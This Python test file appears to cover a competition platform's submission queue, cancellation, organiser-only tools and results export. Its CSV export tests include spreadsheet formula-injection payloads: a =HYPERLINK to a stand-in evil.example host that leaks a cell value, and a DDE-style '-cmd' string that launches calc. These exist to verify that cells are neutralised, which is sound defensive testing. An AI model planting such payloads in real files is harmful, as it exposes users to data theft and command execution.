"""``nsml submission``: where submissions and sessions stand in line, cancelling them,
the organiser's baselines and the results export, and the attacks a participant might try."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Callable, Iterator
from datetime import datetime, timezone
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from conftest import (
    RULE_SCRIPT,
    TRAIN_2018,
    Platform,
    rule_prediction,
    running_platform,
    second_user,
)
from nsml.client.api import ApiClient, ApiError
from nsml.evaluation.results_table import csv_table
from nsml.server.services.evaluation_slots import SlotsSnapshot
from nsml.server.services.submission_queue import QueueState, SubmissionQueue, fair_share_order
from nsml.server.settings import ServerSettings

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"win"),\n@SUM(1+1)\r\n"quoted", -2+3'


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    """One evaluation and one session at a time per user, so the queue is easy to fill."""
    with running_platform(
        tmp_path_factory,
        "queue_admin",
        NSML_MAX_EVALUATIONS_PER_USER="1",
        NSML_MAX_SESSIONS_PER_USER="1",
    ) as instance:
        yield instance


@pytest.fixture(scope="module")
def cup(platform: Platform, tmp_path_factory: pytest.TempPathFactory) -> Platform:
    """The organiser (the server's admin) runs dataset ``cup``; ``pat`` takes part."""
    folder = tmp_path_factory.mktemp("cup")
    (folder / "train").mkdir()
    (folder / "test").mkdir()
    (folder / "train" / "train_data").write_text("a\tb\nc\td\n")
    (folder / "train" / "train_label").write_text("1\n0\n")
    inputs = [f"질문 {i}\t질문 {i + 1}" for i in range(30)]
    (folder / "test" / "test_data").write_text("".join(f"{t}\n" for t in inputs))
    labels = [int(rule_prediction(t, "kin")) for t in inputs]
    assert 0 < sum(labels) < len(labels)  # a constant prediction scores below the rule
    (folder / "test" / "test_label").write_text("".join(f"{label}\n" for label in labels))
    platform.nsml("dataset", "push", "cup", str(folder), "--metric", "accuracy")
    return second_user(platform, "pat", tmp_path_factory.mktemp("clients"))


def _api(client: Platform) -> ApiClient:
    """The client's login; the server's own admin token for the organiser who started it."""
    logged_in = client.home / "client.json"
    config = json.loads(logged_in.read_text()) if logged_in.exists() else client.server_info()
    return ApiClient(config["url"], config["token"])


def _until(what: Callable[[], Any], timeout: float = 30) -> Any:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = what()
        if value:
            return value
        time.sleep(0.1)
    raise AssertionError(f"not within {timeout} s")


def _mine(client: Platform, submission_id: int) -> dict[str, Any]:
    """What ``nsml submission ls cup --json`` shows of one submission (asked in-process:
    polling through the CLI would start Python every tenth of a second)."""
    with _api(client) as api:
        listing = api.my_submissions("cup")
    return next(s.model_dump(mode="json") for s in listing.submissions if s.id == submission_id)


def _session(client: Platform, name: str) -> dict[str, Any]:
    """What ``nsml ps -a --json`` shows of one session (in-process, as ``_mine``)."""
    with _api(client) as api:
        found = [s for s in api.list_sessions(all=True) if s.name == name]
    return found[0].model_dump(mode="json")


def _wait(client: Platform, name: str, statuses: tuple[str, ...] = ("exited",)) -> dict[str, Any]:
    return _until(lambda: (lambda s: s if s["status"] in statuses else None)(_session(client, name)), 60)


def _trained(client: Platform, script: str, args: str, folder: str) -> str:
    """A session of ``script`` on cup that ran to its end."""
    name = client.run(client.project(folder, script), "cup", args)
    assert _wait(client, name, ("exited", "failed"))["status"] == "exited", client.nsml("logs", name).stdout
    return name


def test_queue_positions_cancel_and_limits(platform: Platform, cup: Platform) -> None:
    pat = cup
    slow = _trained(pat, RULE_SCRIPT, "--task kin --behave sleep", "slow")
    platform.nsml("dataset", "set", "cup", "--daily-limit", "2")

    # a session over pat's one session slot says where it stands and why
    folder = pat.project("constant", TRAIN_2018)
    holder = pat.run(folder, "cup", "--epochs 1000 --sleep 0.1")
    good = pat.run(folder, "cup", "--epochs 1")  # predicts 1 for everything: checkpoint "0"
    _wait(pat, holder, ("running",))
    queued = _session(pat, good)
    assert queued["queue_position"] == 1
    assert queued["waiting_for"] == "waits for your session slot (1 of 1 in use)"
    assert "Queued #1 (waits for your session slot (1 of 1 in use))" in pat.nsml("ps").stdout
    pat.nsml("stop", holder)
    assert _wait(pat, good)["status"] == "exited"

    with _api(pat) as api:
        running = api.submit(slow, "best", 64)
        _until(lambda: _mine(pat, running.id)["status"] == "running")
        waits = api.submit(good, "0", 64)
    mine = _mine(pat, waits.id)
    assert mine["status"] == "queued" and mine["queue_position"] == 1
    assert mine["waiting_for"] == "waits for your evaluation slot (1 of 1 in use)"
    with _api(pat) as api:  # what `nsml submit` shows while it follows
        assert api.get_submission(waits.id).waiting_for == mine["waiting_for"]
    assert "queued #1" in pat.nsml("submission", "ls", "cup").stdout

    with _api(pat) as api, pytest.raises(ApiError, match="2 submissions per day"):
        api.submit(good, "0", 64)
    cancelled = pat.json("submission", "cancel", str(waits.id))
    assert cancelled["status"] == "cancelled" and "does not count" in cancelled["reason"]
    with _api(pat) as api:  # the cancelled one freed its place under the limit
        again = api.submit(good, "0", 64)
        assert api.get_submission(waits.id).status == "cancelled"

    # the organiser sees the whole line, and who holds the slots
    line = platform.json("submission", "queue")
    evaluations = next(s for s in line["slots"] if s["kind"] == "evaluation")
    assert evaluations["holders"] == {"pat": 1} and evaluations["per_user"] == 1
    entries = {(e["kind"], e["id"]): e for e in line["entries"]}
    assert entries["submission", running.id]["status"] == "running"
    assert entries["submission", again.id]["queue_position"] == 1
    assert "waits for your evaluation slot" in platform.nsml("submission", "queue").stdout

    # the organiser stops the stuck one: its slot frees at once and it does not count
    by_organiser = platform.json("submission", "cancel", str(running.id))
    assert "cancelled by the organiser" in by_organiser["reason"]
    _until(lambda: _mine(pat, again.id)["status"] in ("running", "scored"), timeout=10)
    assert _until(lambda: _mine(pat, again.id)["status"] == "scored")
    with _api(pat) as api:  # the participant's copy of the log says who stopped it
        assert _until(lambda: b"cancelled by the organiser" in b"".join(api.read_submission_logs(running.id)))
    with _api(pat) as api:
        assert api.my_submissions("cup").limits.used_today == 1


def test_a_participant_cannot_use_the_organisers_tools(platform: Platform, cup: Platform) -> None:
    pat = cup
    theirs = _trained(platform, RULE_SCRIPT, "--task kin", "rule")
    with _api(platform) as api:
        submission = api.submit(theirs, "best", 64)
    attacks = {
        ("submission", "cancel", str(submission.id)): f"submission {submission.id} not found",
        ("submission", "baseline", "cup", str(submission.id)): "only the organiser of cup",
        ("submission", "export", "cup"): "only the organiser of cup",
        ("submission", "export", "cup", "--format", "json"): "only the organiser of cup",
        ("submission", "queue"): "only an organiser or an admin",
        ("submission", "ls", "cup", "--all"): "only the organiser of cup",
    }
    for args, words in attacks.items():
        result = pat.nsml(*args, check=False)
        assert result.returncode == 1 and words in result.stderr, (args, result.stderr)
        assert len(result.stderr.strip().splitlines()) == 1
    assert _until(lambda: _mine(platform, submission.id)["status"] == "scored")
    assert not _mine(platform, submission.id)["baseline"]


def test_baselines_sit_on_the_board_unranked(platform: Platform, cup: Platform) -> None:
    pat = cup
    with _api(platform) as organiser:
        chosen = [s.id for s in organiser.my_submissions("cup").submissions if s.status == "scored"]
        before = organiser.board("cup").rows
    assert [(r.rank, r.owner == "pat") for r in before] == [(1, False), (2, True)]

    marked = platform.json("submission", "baseline", "cup", *map(str, chosen))
    assert [s["baseline"] for s in marked] == [True] * len(chosen)
    with _api(pat) as api:
        rows = api.board("cup").rows
    assert [(r.rank, r.baseline) for r in rows] == [(None, True), (1, False)]  # pat moved up
    assert rows[0].score == 1.0 > rows[1].score
    assert "baseline" in pat.nsml("board", "cup").stdout

    bad = platform.nsml("submission", "baseline", "cup", "999999", check=False)
    assert bad.returncode == 1 and bad.stderr.count("\n") == 1 and "no submission 999999 on cup" in bad.stderr
    with _api(platform) as organiser:
        organiser.set_baselines("cup", chosen, False)
        assert organiser.board("cup").rows[0].rank == 1
        organiser.set_baselines("cup", chosen, True)


def test_results_export_is_complete_and_spreadsheet_safe(
    platform: Platform, cup: Platform, tmp_path: Path
) -> None:
    pat = cup
    script = RULE_SCRIPT.replace('"checkpoint format from the future"', repr(HOSTILE))
    hostile = _trained(pat, script, "--task kin --behave loadfail", "hostile")
    with _api(pat) as api:
        failing = api.submit(hostile, "best", 64)
    _until(lambda: _mine(pat, failing.id)["status"] == "failed")

    target = tmp_path / "results.csv"
    platform.nsml("submission", "export", "cup", "-o", str(target))
    table = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"), newline="")))
    everything = platform.json("submission", "ls", "cup", "--all")
    assert sorted(int(r["submission_id"]) for r in table) == sorted(s["id"] for s in everything)
    [failed] = [r for r in table if r["session"] == hostile]
    assert None not in failed and "=HYPERLINK" in failed["reason"] and "@SUM" in failed["reason"]
    assert failed["on_final_board"] == "false" and failed["final_rank"] == ""
    ranked = [r for r in table if r["final_rank"]]
    assert [(r["owner"], r["final_rank"]) for r in ranked] == [("pat", "1")]
    assert sum(r["baseline"] == "true" and r["on_final_board"] == "true" for r in table) == 1

    data = json.loads(platform.nsml("submission", "export", "cup", "--format", "json").stdout)
    assert [row["rank"] for row in data["board"]] == [None, 1]
    assert data["board"][1]["owner"] == "pat" and data["board"][1]["private_score"] is not None
    assert len(data["submissions"]) == len(table)


def test_csv_cells_cannot_break_out_or_run_formulas() -> None:
    cells = [HOSTILE, "=1+1", "+cmd", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", 'plain, "text"', -0.5, 3]
    text = csv_table(("a", "b", "c", "d", "e", "f", "g", "h", "i"), [cells])
    header, row = list(csv.reader(io.StringIO(text, newline="")))
    assert len(header) == len(row) == 9
    assert row[:6] == ["'" + c for c in cells[:6]]  # type: ignore[operator]
    assert row[6:] == ['plain, "text"', "-0.5", "3"]
    assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in row)


def test_the_line_follows_the_fair_share_rule_and_names_the_slot(tmp_path: Path) -> None:
    since = datetime.now(timezone.utc)

    def states(snapshot: SlotsSnapshot) -> dict[int, QueueState]:
        slots = SimpleNamespace(slots=SimpleNamespace(snapshot=lambda: snapshot))
        queue = SubmissionQueue(None, slots, None, ServerSettings(tmp_path))
        return queue.submission_states()

    # ann holds both of her slots; bob and cy wait for the one free slot of three
    snapshot = SlotsSnapshot(3, 2, [("ann", 1, since), ("bob", 2, since), ("cy", 3, since)], {"ann": 2})
    assert fair_share_order(snapshot) == [("bob", 2), ("cy", 3), ("ann", 1)]
    assert states(snapshot)[1] == QueueState(3, "waits for your evaluation slot (2 of 2 in use)")
    assert (
        states(snapshot)[3].waiting_for
        == "waits for its turn: another user's evaluation goes first (fair share)"
    )
    full = SlotsSnapshot(2, 0, [("bob", 2, since)], {"ann": 2})
    assert states(full) == {2: QueueState(1, "waits for a free evaluation slot (2 of 2 in use)")}
